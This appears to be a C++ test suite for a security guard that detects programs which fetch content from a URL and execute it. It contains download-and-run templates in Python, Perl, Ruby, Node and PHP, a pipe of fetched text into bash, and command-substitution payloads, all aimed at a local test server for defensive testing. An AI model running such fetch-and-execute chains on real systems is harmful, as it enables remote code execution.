// SPDX-License-Identifier: Apache-2.0
// Programs that are typed or piped into an interpreter, fetch something and run a command: one that
// stands in their own text, or what they fetched. In every language, by here-document, by -c and by
// what else an interpreter takes its program from; and development servers, which are no
// one-liners.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <ostream>
#include <string>
#include <vector>

#include "chain_attack.h"

namespace davylamp::test {
namespace {

using testing::IsEmpty;

// A program that fetches `@FROM` and then hands a shell `@COMMAND`, an expression of the language
// in which `t` ($t) is what it has fetched. No single quotes: it is also given as an argument.
struct Language {
    const char* name;
    const char* command; // that reads standard input as a program
    const char* option;  // that takes the program as an argument
    const char* opening; // of a program on standard input
    const char* program;
    const char* text; // of `t` as a part of a string
};

const Language kLanguages[] = {
    {"python", "/usr/bin/python3 -", "/usr/bin/python3 -c", "",
     "import os, urllib.request as u\n"
     "t = u.urlopen(\"@FROM\").read().decode()\n"
     "os.system(@COMMAND)\n",
     "\" + t.strip() + \""},
    {"perl", "perl -", "perl -e", "",
     "use HTTP::Tiny;\n"
     "my $t = HTTP::Tiny->new->get(\"@FROM\")->{content};\n"
     "chomp $t;\n"
     "system(@COMMAND);\n",
     "$t"},
    {"ruby", "ruby -", "ruby -e", "",
     "require \"net/http\"\n"
     "t = Net::HTTP.get(URI(\"@FROM\"))\n"
     "system(@COMMAND)\n",
     "#{t.strip}"},
    {"node", "node -", "node -e", "",
     "require(\"http\").get(\"@FROM\", r => { let t = \"\"; r.on(\"data\", d => t += d);\n"
     "  r.on(\"end\", () => { require(\"child_process\").execSync(@COMMAND); }); });\n",
     "\" + t.trim() + \""},
    {"php", "php", "php -r", "<?php ",
     "$t = file_get_contents(\"@FROM\");\n"
     "shell_exec(@COMMAND);\n",
     "\" . trim($t) . \""},
};

std::string program_of(const Language& language, const std::string& from,
                       const std::string& command)
{
    return replaced(replaced(language.program, "@FROM", from), "@COMMAND", command);
}

// What a shell types: the program on standard input.
std::string here_document(const Language& language, const std::string& program)
{
    return std::string(language.command) + " <<'END'\n" + language.opening + program + "END\n";
}

std::string as_argument(const Language& language, const std::string& program)
{
    return std::string(language.option) + " '" + program + "'";
}

struct Case {
    std::string name, command;
    Mode mode;
};

void PrintTo(const Case& test, std::ostream* stream) { *stream << test.name; }

std::string case_name(const testing::TestParamInfo<Case>& test)
{
    return test_name(test.param.name, test.param.mode);
}

const Mode kModes[] = {Mode::monitor, Mode::block, Mode::kill};

// A command of the program's own, which ends with what was fetched as data, makes @D/spool/done.
std::vector<Case> honest()
{
    std::vector<Case> cases;
    for (const Language& language : kLanguages) {
        const std::string name = language.name, t = language.text;
        const std::string own = "\"mkdir -p @D/spool && cd @D/spool && touch done\"";
        const std::string json = "\"mkdir -p @D/spool; tee @D/spool/done << E\\n" + t + "\\nE\\n\"";
        const std::string program = program_of(language, "@JSON_URL", own);
        const std::string done = "\n[ -e @D/spool/done ]";
        for (Mode mode : kModes) {
            cases.push_back(
                {name + " by here document", here_document(language, program) + done, mode});
        }
        const std::string with_json = program_of(language, "@JSON_URL", json);
        cases.push_back({name + " with JSON as an argument",
                         here_document(language, with_json) + done, Mode::kill});
        cases.push_back({name + " with JSON as an argument of an argument",
                         as_argument(language, with_json) + done, Mode::kill});
        cases.push_back({name + " by argument", as_argument(language, program) + done, Mode::kill});
        // Piped by who may still be writing as the interpreter starts.
        cases.push_back({name + " by pipe",
                         "(sleep 0.2; printf '%s' '" + (language.opening + program) + "') | " +
                             language.command + done,
                         Mode::kill});
    }
    const Language& python = kLanguages[0];
    const Language& perl = kLanguages[1];
    const std::string own = "\"mkdir -p @D/spool && touch @D/spool/done\"";
    const std::string done = "\n[ -e @D/spool/done ]";
    const std::string filler(90, '#');
    for (const Language* language : {&python, &perl}) {
        const std::string name = language->name;
        const std::string program = program_of(*language, "@JSON_URL", own);
        std::string longer;
        for (int i = 0; i < 60; i++) // more than a page, less than two
            longer += filler + "\n";
        longer += program;
        const std::string command = language->command;
        cases.push_back(
            {name + " by here string", command + " <<< '" + program + "'" + done, Mode::kill});
        cases.push_back({name + " by file",
                         "cat > @D/p <<'END'\n" + program + "END\n" + command + " < @D/p" + done,
                         Mode::kill});
        cases.push_back(
            {name + " by long here document", here_document(*language, longer) + done, Mode::kill});
        cases.push_back({name + " by long file",
                         "cat > @D/p <<'END'\n" + longer + "END\n" + command + " < @D/p" + done,
                         Mode::kill});
        // dash has its documents written by a child, zsh lays them into a file without a name.
        for (const char* shell : {"dash", "zsh", "busybox sh"}) {
            cases.push_back({name + " by " + shell,
                             "cat > @D/s <<'DONE'\n" + here_document(*language, program) +
                                 "DONE\n" + shell + " @D/s" + done,
                             Mode::kill});
        }
        cases.push_back(
            {name + " by a path to its input",
             replaced(command, " -", " /dev/stdin") + " <<'END'\n" + program + "END" + done,
             Mode::kill});
        std::string padded(700, '#');
        cases.push_back({name + " by long argument",
                         as_argument(*language, padded + "\n" + program) + done, Mode::kill});
    }
    cases.push_back({"a program in a folder of the environment",
                     "mkdir @D/bin; cp @D/local.sh @D/bin/notify; export H=@D\n"
                     "/usr/bin/python3 - <<'END'\nimport os, urllib.request as u\n"
                     "u.urlopen(\"@JSON_URL\").read()\n"
                     "os.system(os.environ[\"H\"] + \"/bin/notify now && true\")\nEND\n"
                     "[ -e @D/marker ]",
                     Mode::kill});
    cases.push_back(
        {"a child that fetches",
         "/usr/bin/python3 - <<'END'\nimport os, urllib.request as u\n"
         "if os.fork() == 0:\n    u.urlopen(\"@JSON_URL\").read()\n"
         "    os.system(\"mkdir -p @D/spool && touch @D/spool/done\")\n    os._exit(0)\n"
         "os.wait()\nEND" +
             done,
         Mode::kill});
    return cases;
}

class OwnText : public testing::TestWithParam<Case> {};

TEST_P(OwnText, IsNoDownload)
{
    ChainSite site;
    GuardResult result = run_guard(GetParam().mode, site.fill(GetParam().command));
    EXPECT_EQ(result.exit_code, 0) << result.err << result.out;
    EXPECT_THAT(result.codes(), IsEmpty()) << result.out;
}

INSTANTIATE_TEST_SUITE_P(Live, OwnText, testing::ValuesIn(honest()), case_name);

// What was fetched is the command.
std::vector<Case> attacks()
{
    std::vector<Case> cases;
    for (const Language& language : kLanguages) {
        const std::string name = language.name, t = language.text;
        const std::string program = program_of(language, "@URL", "\"" + t + "\"");
        for (Mode mode : kModes) {
            cases.push_back({name + " by here document", here_document(language, program), mode});
            cases.push_back({name + " by argument", as_argument(language, program), mode});
        }
        const std::string comment = name == "node" ? "// { } {}\n" : "# { } {}\n";
        // Every program has braces and blanks. That makes no command of them that it brought.
        const std::string braces = program_of(language, "@BRACES_URL", "\"" + t + "\"");
        const std::string document = program_of(language, "@DOCUMENT_URL", "\"" + t + "\"");
        cases.push_back(
            {name + " and braces", here_document(language, braces + comment), Mode::block});
        cases.push_back({name + " and braces by argument", as_argument(language, braces + comment),
                         Mode::block});
        cases.push_back({name + " and a document", here_document(language, document), Mode::block});
        cases.push_back(
            {name + " and a document by argument", as_argument(language, document), Mode::block});
    }
    const Language& python = kLanguages[0];
    const std::string program = program_of(python, "@URL", "t");
    cases.push_back({"python by a path to its input",
                     "/usr/bin/python3 /dev/stdin <<'END'\n" + program + "END", Mode::block});
    cases.push_back({"python that evaluates an argument of a module",
                     "/usr/bin/python3 -m timeit -n1 -r1 '" + program + "'", Mode::block});
    cases.push_back({"python and a shell's input",
                     "/usr/bin/python3 - <<'END'\nimport subprocess, urllib.request as u\n"
                     "t = u.urlopen(\"@URL\").read()\n"
                     "subprocess.run([\"bash\"], input=t)\nEND",
                     Mode::block});
    // Behind a command of the program's own.
    for (const Language& language : kLanguages) {
        const std::string name = language.name;
        const std::string behind =
            program_of(language, "@URL", "\"cd / ; " + std::string(language.text) + "\"");
        cases.push_back(
            {name + " behind a command of its own", here_document(language, behind), Mode::block});
        cases.push_back({name + " behind a command of its own by argument",
                         as_argument(language, behind), Mode::block});
    }
    cases.push_back({"blanks before it",
                     here_document(python, program_of(python, "@URL", "\" \" * 70 + t")),
                     Mode::block});
    return cases;
}

class NotOwnText : public testing::TestWithParam<Case> {};

TEST_P(NotOwnText, IsStopped)
{
    const Case& test = GetParam();
    ChainSite site;
    site.web.serve("/braces", "{ echo ran > " + site.marker() + "; }\n");
    site.web.serve("/document", "{\"a\": \"$(echo ran > " + site.marker() + ")\"}\n");
    std::string command = replaced(test.command, "@BRACES_URL", site.web.url("/braces"));
    command = site.fill(replaced(command, "@DOCUMENT_URL", site.web.url("/document")));
    GuardResult result = run_guard(test.mode, command);
    EXPECT_EQ(result.exit_code, 86) << result.err;
    Finding finding = result.first("CHAIN-005");
    EXPECT_EQ(exists(site.marker()), test.mode == Mode::monitor) << result.out;
    EXPECT_EQ(finding.did("kill_current"), test.mode != Mode::monitor) << result.out;
}

INSTANTIATE_TEST_SUITE_P(Live, NotOwnText, testing::ValuesIn(attacks()), case_name);

// Any module but a server's is a one-liner: what it writes is a download.
TEST(OwnTextModule, WritesADownload)
{
    for (Mode mode : kModes) {
        ChainSite site;
        GuardResult result = run_guard(
            mode, site.fill("cd @D; printf 'import urllib.request as u\\n"
                            "open(\"f\", \"wb\").write(u.urlopen(\"@URL\").read())\\n' > m.py; "
                            "/usr/bin/python3 -m m; sh @D/f"));
        Finding finding = result.first("CHAIN-003");
        EXPECT_EQ(exists(site.marker()), mode == Mode::monitor) << result.out;
    }
}

// docs/limits.md: one that is named like pip is pip, and gains what a file has.
TEST(OwnTextModule, NamedLikeAProgramIsAFile)
{
    for (const char* command : {"/usr/bin/python3 -m pip", "/usr/bin/python3 pip.py"}) {
        ChainSite site;
        GuardResult result = run_guard(
            Mode::kill,
            site.fill("cd @D; printf 'import urllib.request as u\\n"
                      "open(\"f\", \"wb\").write(u.urlopen(\"@URL\").read())\\n' > pip.py; " +
                      std::string(command) + "; sh @D/f"));
        EXPECT_EQ(result.exit_code, 0) << command << result.err << result.out;
        EXPECT_TRUE(exists(site.marker())) << command;
    }
}

// docs/limits.md: what of a program is longer than what is kept counts as not there.
TEST(OwnTextLimit, ACommandBehindWhatIsKept)
{
    ChainSite site;
    std::string program;
    for (int i = 0; i < 120; i++)
        program += std::string(90, '#') + "\n";
    program += program_of(kLanguages[0], "@JSON_URL", "\"mkdir -p @D/spool\"");
    GuardResult result = run_guard(Mode::monitor, site.fill(here_document(kLanguages[0], program)));
    EXPECT_EQ(result.first("CHAIN-005").action(), 3);
}

// A server that is given by options: its pages run commands, and its visitors only ask.
#define VISIT(path)                                                                                \
    " > @D/log 2>&1 & server=$!; for i in $(seq 100); do curl -sf http://127.0.0.1:@PORT" path     \
    " > @D/page && break; sleep 0.05; done; kill $server; wait; grep -q '^page 7$' @D/page && "    \
    "[ -e @D/marker ]"

std::vector<Case> servers()
{
    std::vector<Case> cases;
    const std::string pages =
        "mkdir -p @D/www/cgi-bin; cp @D/local.sh @D/www/helper; cd @D/www; "
        "printf '#!/bin/sh\\necho Content-Type: text/plain\\necho\\nsh @D/local.sh\\n"
        "echo page $((3 + 4))\\n' > cgi-bin/page; chmod 755 cgi-bin/page; chmod -R a+rwX @D; "
        "printf '<?php shell_exec(\"echo $((3 + 4)) > count; sh ./helper\"); "
        "echo \"page \", file_get_contents(\"count\");' > page.php; "
        "printf '<%% `echo $((3 + 4)) > count; sh ./helper` %%>page <%%= "
        "File.read(\"count\") "
        "%%>' > page.rhtml; ";
    for (Mode mode : kModes) {
        cases.push_back({"php -S", pages + "php -S 127.0.0.1:@PORT" VISIT("/page.php"), mode});
        cases.push_back({"python -m http.server --cgi",
                         pages + "/usr/bin/python3 -m http.server --cgi --bind 127.0.0.1 "
                                 "@PORT" VISIT("/cgi-bin/page"),
                         mode});
        cases.push_back(
            {"ruby -run -e httpd",
             pages + "ruby -run -e httpd -- -b 127.0.0.1 -p @PORT ." VISIT("/page.rhtml"), mode});
    }
    // A page that asks another service first.
    cases.push_back({"php -S that asks a service",
                     pages + "sed -i 's,<?php,<?php file_get_contents(\"@JSON_URL\");,' page.php; "
                             "php -S 127.0.0.1:@PORT" VISIT("/page.php"),
                     Mode::kill});
    return cases;
}

class DevelopmentServer : public testing::TestWithParam<Case> {};

TEST_P(DevelopmentServer, RunsItsOwnPages)
{
    ChainSite site;
    GuardResult result = run_guard(GetParam().mode, site.fill(GetParam().command));
    EXPECT_EQ(result.exit_code, 0) << result.err << result.out << slurp(site.folder / "log");
    EXPECT_THAT(result.codes(), IsEmpty()) << result.out;
}

INSTANTIATE_TEST_SUITE_P(Live, DevelopmentServer, testing::ValuesIn(servers()), case_name);

} // namespace
} // namespace davylamp::test
